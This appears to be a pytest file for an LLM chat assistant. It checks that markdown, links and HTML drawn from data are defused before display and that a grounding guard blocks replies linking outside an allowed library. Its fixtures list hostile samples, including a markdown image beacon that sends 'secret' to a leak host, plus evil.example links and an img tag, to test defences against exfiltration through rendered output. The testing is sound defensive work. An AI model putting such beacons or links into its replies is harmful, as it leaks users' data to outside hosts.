"""Markdown from data never renders: names that look like images or links reach the chat as
text (replies, tables, steps, chart labels), the echoed user message is not rendered as
markdown, and the grounding guard refuses LLM replies that link outside the library."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest

from assistant import charts
from assistant.config import Settings
from assistant.conversation import Conversation
from assistant.grounding import GroundingGuard
from assistant.markdown_safety import defused, find_links
from assistant.ui import APP_ROOT
from assistant.ui.chat_markdown import for_display
from prompts import seed_prompt
from tools.views import PlanView

BEACON = "![x](http://host/leak?d=secret)"
HOSTILE_NAMES = (
    BEACON,
    "[click me](https://evil.example/login)",
    "<https://evil.example>",
    "http://evil.example/x",
    "www.evil.example",
    '<img src="http://host/leak">',
    "[r]: http://host/ref",
)


@pytest.fixture(scope="module")
def seed(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, PlanView]:
    conversation = Conversation(
        Settings(data_dir=tmp_path_factory.mktemp("seed"), force_offline=True)
    )
    result = conversation.respond(seed_prompt())
    assert result.json_view.plan is not None
    return result.reply, result.json_view.plan


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_name_in_a_reply_table_is_shown_as_text(
    seed: tuple[str, PlanView], name: str
) -> None:
    reply, _ = seed
    assert "| Email |" in reply
    hostile = reply.replace("Email", name)
    assert find_links(hostile)  # what would render without the defusing
    assert find_links(for_display(hostile)) == ()
    assert "| Paid search |" in for_display(hostile) or "Paid search" in for_display(hostile)


def test_defusing_keeps_the_text_and_allowed_links() -> None:
    text = f"Cut {BEACON}; see [the guide](https://library.example/guide)."
    out = defused(text, allowed={"https://library.example/guide"})
    assert "[the guide](https://library.example/guide)" in out
    assert [link.target for link in find_links(out)] == ["https://library.example/guide"]
    assert "!\\[x](http\\://host/leak?d=secret)" in out
    assert defused("```\nhttp://in.code\n```") == "```\nhttp://in.code\n```"
    assert defused("Search spend rose 3 < 4 times") == "Search spend rose 3 < 4 times"


def test_chart_labels_from_data_are_escaped(seed: tuple[str, PlanView]) -> None:
    _, plan = seed
    first = plan.allocations[0].model_copy(update={"channel": '<a href="http://evil">x</a>'})
    hostile = plan.model_copy(update={"allocations": [first, *plan.allocations[1:]]})
    figure = charts.allocation_bars(hostile)
    text = figure.to_json()
    assert "<a href" not in text
    assert "&lt;a href" in text


def test_the_chat_renders_no_html_and_no_markdown_in_the_users_message() -> None:
    config = tomllib.loads((APP_ROOT / ".chainlit" / "config.toml").read_text())
    features = config["features"]
    assert features["unsafe_allow_html"] is False
    assert features["user_message_markdown"] is False
    assert features["latex"] is False


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_the_guard_refuses_a_reply_with_links_from_outside_the_library(name: str) -> None:
    report = GroundingGuard().check(f"Move budget from {name} to Email.", [])
    assert not report.ok
    assert report.links


def test_the_guard_passes_a_reply_without_links() -> None:
    assert GroundingGuard().check("Move budget from Events to Email.", []).ok


def test_the_library_links_are_allowed(tmp_path: Path) -> None:
    guard = GroundingGuard(allowed_links=frozenset({"https://library.example/guide"}))
    assert guard.check("See [the guide](https://library.example/guide).", []).ok
